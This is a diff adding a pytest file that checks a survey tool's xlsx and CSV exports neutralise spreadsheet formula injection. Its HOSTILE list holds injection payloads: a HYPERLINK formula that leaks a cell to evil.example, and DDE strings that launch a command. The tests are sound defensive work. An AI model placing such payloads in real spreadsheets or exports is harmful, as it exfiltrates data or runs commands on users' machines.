@@ -1,0 +1,104 @@
+"""Downloads: text that a spreadsheet would run as a formula comes back as text, numbers as
+numbers (the workbench, briefing and point exports via survey.exports; the CLI export)."""
+
+import csv
+import io
+import os
+import zipfile
+
+import duckdb
+import openpyxl
+import pandas as pd
+import pytest
+
+from survey import exporter, exports
+
+HOSTILE = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "=cmd|' /C calc'!A0",
+           "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]
+HARMLESS = ["会议太多", "a=b", "", "3 - 2"]
+
+
+def frame() -> pd.DataFrame:
+    texts = HOSTILE + HARMLESS
+    return pd.DataFrame({"text": texts, "=header": texts,
+                         "number": [-5.5 + i for i in range(len(texts))],
+                         "count": list(range(-3, len(texts) - 3))})
+
+
+def assert_text_cells(sheet, expected_texts):
+    rows = list(sheet.iter_rows())
+    header, body = rows[0], rows[1:]
+    assert header[1].value == "=header" and header[1].data_type == "s"
+    for row, text in zip(body, expected_texts):
+        for cell in row[:2]:
+            if text == "":
+                assert cell.value in (None, "")
+                continue
+            assert cell.data_type == "s", (cell.value, cell.data_type)  # never "f"
+            # verbatim, no apostrophe added (XML itself stores a CR as a line feed)
+            assert cell.value == text.replace("\r", "\n")
+        assert isinstance(row[2].value, float) and isinstance(row[3].value, int)
+
+
+def no_formula_elements(data: bytes) -> None:
+    with zipfile.ZipFile(io.BytesIO(data)) as book:
+        for name in book.namelist():
+            if name.startswith("xl/worksheets/"):
+                assert b"<f>" not in book.read(name) and b"<f " not in book.read(name)
+
+
+def test_xlsx_download_keeps_formula_like_text_as_text():
+    data = exports.xlsx_bytes({"query": frame()})
+    no_formula_elements(data)
+    sheet = openpyxl.load_workbook(io.BytesIO(data))["query"]
+    assert_text_cells(sheet, HOSTILE + HARMLESS)
+    assert all(sheet.cell(row=i + 2, column=1).quotePrefix for i in range(len(HOSTILE)))
+
+
+def test_csv_download_prefixes_formula_like_text_and_keeps_numbers():
+    text = exports.csv_bytes(frame()).decode("utf-8-sig")
+    rows = list(csv.reader(io.StringIO(text, newline="")))
+    assert rows[0] == ["text", "'=header", "number", "count"]
+    for row, original in zip(rows[1:], HOSTILE + HARMLESS):
+        for cell in row[:2]:
+            assert not cell.startswith(exports.FORMULA_START)
+            assert cell == ("'" + original if original in HOSTILE else original)
+        float(row[2]), int(row[3])  # still numbers
+    assert rows[1][2] == "-5.5" and rows[1][3] == "-3"
+
+
+@pytest.fixture
+def views(tmp_path):
+    con = duckdb.connect(str(tmp_path / "views.duckdb"))
+    con.execute("CREATE TABLE points AS SELECT * FROM (VALUES " +
+                ", ".join(f"(?, ?, {i - 3}, {i - 3.5})" for i in range(len(HOSTILE + HARMLESS)))
+                + ") t(point_id, name, n, x)", [v for t in HOSTILE + HARMLESS for v in (t, t)])
+    con.execute("CREATE TABLE answers AS SELECT name AS value_text, [name] AS value_choices, n "
+                "FROM points")
+    yield con
+    con.close()
+
+
+def test_cli_csv_export_prefixes_formula_like_text(views, tmp_path):
+    exporter.export(views, tmp_path / "out", "csv", views=("points", "answers"),
+                    stream=open(os.devnull, "w"))
+    with open(tmp_path / "out" / "points.csv", encoding="utf-8-sig", newline="") as fh:
+        rows = list(csv.reader(fh))
+    for row, original in zip(rows[1:], HOSTILE + HARMLESS):
+        assert row[:2] == [("'" + original if original in HOSTILE else original)] * 2
+        int(row[2]), float(row[3])
+    assert rows[1][2] == "-3" and rows[1][3] == "-3.5"
+
+
+def test_cli_xlsx_export_keeps_formula_like_text_as_text(views, tmp_path):
+    exporter.export(views, tmp_path / "out", "xlsx", views=("points", "answers"),
+                    stream=open(os.devnull, "w"))
+    data = (tmp_path / "out" / "survey_export.xlsx").read_bytes()
+    no_formula_elements(data)
+    book = openpyxl.load_workbook(io.BytesIO(data))
+    for row, original in zip(list(book["points"].iter_rows())[1:], HOSTILE + HARMLESS):
+        if original:
+            assert [c.data_type for c in row[:2]] == ["s", "s"]
+            assert [c.value for c in row[:2]] == [original.replace("\r", "\n")] * 2
+        assert isinstance(row[2].value, int) and isinstance(row[3].value, float)
+    assert book["answers"].cell(row=2, column=1).data_type == "s"
